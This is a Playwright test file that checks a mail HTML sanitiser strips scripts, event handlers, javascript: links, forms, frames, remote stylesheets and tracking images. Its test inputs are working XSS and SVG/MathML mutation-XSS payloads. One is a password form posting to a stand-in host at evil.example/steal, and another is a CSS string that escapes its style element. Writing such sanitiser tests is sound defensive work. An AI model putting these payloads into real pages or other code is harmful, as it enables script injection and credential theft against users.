import { expect, test } from '@playwright/test';
import { documentIn, loadSanitiser, sanitiseIn, type Inspected } from './support/sanitiser-page.ts';

/** Tags and attributes that must never come out of the sanitiser, whatever went in. */
function assertInert(out: Inspected): void {
  const tags = out.elements.map((e) => e.tag);
  for (const banned of [
    'script',
    'iframe',
    'object',
    'embed',
    'svg',
    'math',
    'meta',
    'base',
    'link',
    'form',
    'input',
    'button',
    'textarea',
    'select',
    'template',
    'noscript',
  ]) {
    expect(tags, `<${banned}> survived`).not.toContain(banned);
  }
  for (const el of out.elements) {
    for (const [name, value] of Object.entries(el.attrs)) {
      expect(name, `${el.tag}[${name}] survived`).not.toMatch(/^on/i);
      expect(value, `${el.tag}[${name}] = ${value}`).not.toMatch(/^\s*(?:javascript|vbscript):/i);
    }
  }
}

test.describe('mail HTML sanitiser (in Chromium)', () => {
  test.beforeEach(async ({ page }) => {
    await loadSanitiser(page);
  });

  test('scripts go with their text, event handlers and javascript: links go', async ({ page }) => {
    const out = await sanitiseIn(
      page,
      `<p>Hello</p><script>document.title = "pwned-by-script"</script>
       <SCRIPT src="https://evil.example/x.js"></SCRIPT>
       <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="alert('pwned-onerror')">
       <body onload="alert(1)"><div onclick="alert(2)" onmouseover="alert(3)">hover</div>
       <a href="javascript:alert('pwned-link')">js</a>
       <a href="  JaVaScRiPt:alert(1)">js2</a>
       <a href="jav&#x09;ascript:alert(1)">js3</a>
       <a href="data:text/html,<script>alert(1)</script>">data</a>
       <a href="vbscript:msgbox(1)">vb</a>
       <a href="https://shop.example/orders">orders</a>
       <a href="mailto:help@shop.example">mail us</a>`,
    );
    assertInert(out);
    expect(out.body).not.toContain('pwned');
    expect(out.body).toContain('Hello');
    expect(out.body).toContain('hover');
    const links = out.elements.filter((e) => e.tag === 'a');
    expect(links.map((l) => l.attrs.href ?? null)).toEqual([
      null,
      null,
      null,
      null,
      null,
      'https://shop.example/orders',
      'mailto:help@shop.example',
    ]);
    const https = links[5]?.attrs;
    expect(https?.target).toBe('_blank');
    expect(https?.rel).toBe('noopener noreferrer');
  });

  test('SVG and MathML tricks, including namespace-confusion mutations, come out inert', async ({
    page,
  }) => {
    const out = await sanitiseIn(
      page,
      `<p>still here</p><svg><script>alert('pwned-svg')</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
       <svg onload="alert('pwned-onload')"></svg>
       <svg><animate onbegin="alert(1)" attributeName="x"/><set attributeName="href" to="javascript:alert(1)"/></svg>
       <math><mtext><table><mglyph><style><img src=x onerror="alert('pwned-mglyph')"></style></mglyph></table></mtext></math>
       <svg></p><style><a id="</style><img src=1 onerror=alert('pwned-style')>">
       <form><math><mtext></form><form><mglyph><style></math><img src onerror="alert('pwned-form')">
       <noscript><p title="</noscript><img src=x onerror=alert('pwned-noscript')>"></noscript>`,
    );
    assertInert(out);
    expect(out.elements.filter((e) => e.tag === 'img' && 'onerror' in e.attrs)).toEqual([]);
    expect(out.body).toContain('still here');
  });

  test('meta refresh, base href, forms, frames and plugins are removed', async ({ page }) => {
    const out = await sanitiseIn(
      page,
      `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
       <base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
       <meta http-equiv="Content-Security-Policy" content="script-src *"></head><body>
       <form action="https://evil.example/steal" method="post">
         <label>Password <input type="password" name="pw"></label>
         <textarea>t</textarea><select><option>o</option></select>
         <button formaction="https://evil.example/b">Log in</button>
       </form>
       <iframe src="https://evil.example/"></iframe><object data="x.swf"></object>
       <embed src="x.swf"><frameset><frame src="https://evil.example/"></frameset>
       <a href="https://ok.example/" ping="https://evil.example/ping">ok</a>
       </body></html>`,
    );
    assertInert(out);
    expect(out.body).toContain('Password');
    expect(out.body).toContain('Log in');
    expect(out.body).not.toContain('evil.example');
    expect(out.css).not.toContain('evil.example');
  });

  test('remote images, srcset, CSS url(), <style>, fonts and background attributes stay out until allowed', async ({
    page,
  }) => {
    const html = `<html><head><style>
        @import url("https://evil.example/import.css");
        @font-face { font-family: Spy; src: url(https://evil.example/font.woff2); }
        .hero { background-image: url('https://evil.example/style-bg.png'); color: #123456; }
        .esc { background: \\75 rl(https://evil.example/escaped.png); }
        .set { background-image: image-set("https://evil.example/set.png" 1x); }
        @media (min-width: 10px) { .m { list-style-image: url(//evil.example/media.png) } }
      </style></head>
      <body style="background: url(https://evil.example/body.png) #fafafa">
      <img src="https://evil.example/open.gif" alt="pixel">
      <img src="//evil.example/proto.gif" alt="proto">
      <img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x" alt="srcset">
      <picture><source srcset="https://evil.example/c.webp"><img alt="pic"></picture>
      <div style="background-image: url(&quot;https://evil.example/inline.png&quot;); color: red">inline</div>
      <table background="https://evil.example/table.png"><tr><td background="http://evil.example/td.png">cell</td></tr></table>
      <video poster="https://evil.example/poster.png"></video>
      <img src="data:image/png;base64,iVBORw0KGgo=" alt="inline-data">
      <img src="/api/emails/someone@example.org" alt="relative">
      <img src="cid:logo@shop" alt="cid">
      </body></html>`;

    const blocked = await sanitiseIn(page, html, false);
    expect(blocked.remote).toBeGreaterThanOrEqual(12);
    expect(blocked.body + blocked.css + blocked.bodyStyle).not.toContain('evil.example');
    expect(blocked.css).not.toContain('@import');
    expect(blocked.css).toContain('rgb(18, 52, 86)');
    expect(blocked.bodyStyle).toContain('rgb(250, 250, 250)');
    const imgs = blocked.elements.filter((e) => e.tag === 'img');
    expect(imgs.find((i) => i.attrs.alt === 'inline-data')?.attrs.src).toMatch(/^data:image\/png/);
    expect(imgs.find((i) => i.attrs.alt === 'relative')?.attrs.src).toBeUndefined();
    expect(imgs.find((i) => i.attrs.alt === 'cid')?.attrs.src).toBeUndefined();
    const inline = blocked.elements.find((e) => e.attrs.style?.includes('red'));
    expect(inline?.attrs.style).toBe('color: red;');

    const allowed = await sanitiseIn(page, html, true);
    const all = allowed.body + allowed.css + allowed.bodyStyle;
    for (const kept of [
      'https://evil.example/open.gif',
      'https://evil.example/proto.gif',
      'https://evil.example/b.png 2x',
      'https://evil.example/inline.png',
      'https://evil.example/table.png',
      'https://evil.example/style-bg.png',
      'https://evil.example/escaped.png',
      'https://evil.example/font.woff2',
      'https://evil.example/body.png',
    ]) {
      expect(all, kept).toContain(kept);
    }
    // Allowing remote images never lets a stylesheet in, nor a relative URL (it would point at
    // this app's own server).
    expect(all).not.toContain('import.css');
    const relative = allowed.elements.find((e) => e.attrs.alt === 'relative');
    expect(relative?.attrs.src).toBeUndefined();
  });

  test('a CSS string cannot close the <style> element it is written back into', async ({
    page,
  }) => {
    // The HTML parser (and DOMPurify) see no "<" here; the CSS parser decodes \3c to "<", and
    // the browser's serialiser writes the string back with a literal "</style><img …>".
    const html = `<html><head><style>p::after { content: "\\3c /style\\3e \\3c img src=https://evil.example/x.png\\3e "; }</style></head><body><p>x</p></body></html>`;
    const doc = await documentIn(page, html, false);
    const parsed = await page.evaluate((srcdoc) => {
      const d = new DOMParser().parseFromString(srcdoc, 'text/html');
      return {
        imgs: d.querySelectorAll('img').length,
        styles: Array.from(d.querySelectorAll('style'), (s) => s.textContent ?? ''),
      };
    }, doc.srcdoc);
    expect(parsed.imgs, doc.srcdoc).toBe(0);
    expect(parsed.styles.join(''), doc.srcdoc).toContain('\\3c /style');
  });

  test('the frame policy allows no script and no remote image until allowed', async ({ page }) => {
    const csp = await page.evaluate(() => {
      const g = window as unknown as { mailSanitiser: { mailCsp: (a: boolean) => string } };
      return [g.mailSanitiser.mailCsp(false), g.mailSanitiser.mailCsp(true)];
    });
    const [strict = '', relaxed = ''] = csp;
    expect(strict).toContain("default-src 'none'");
    expect(strict).toContain("script-src 'none'");
    expect(strict).toContain('img-src data: blob:;');
    expect(strict).not.toMatch(/https?:/);
    expect(relaxed).toContain('img-src data: blob: https: http:');
    expect(relaxed).toContain("script-src 'none'");
    expect(relaxed).not.toMatch(/style-src[^;]*https/);
  });
});
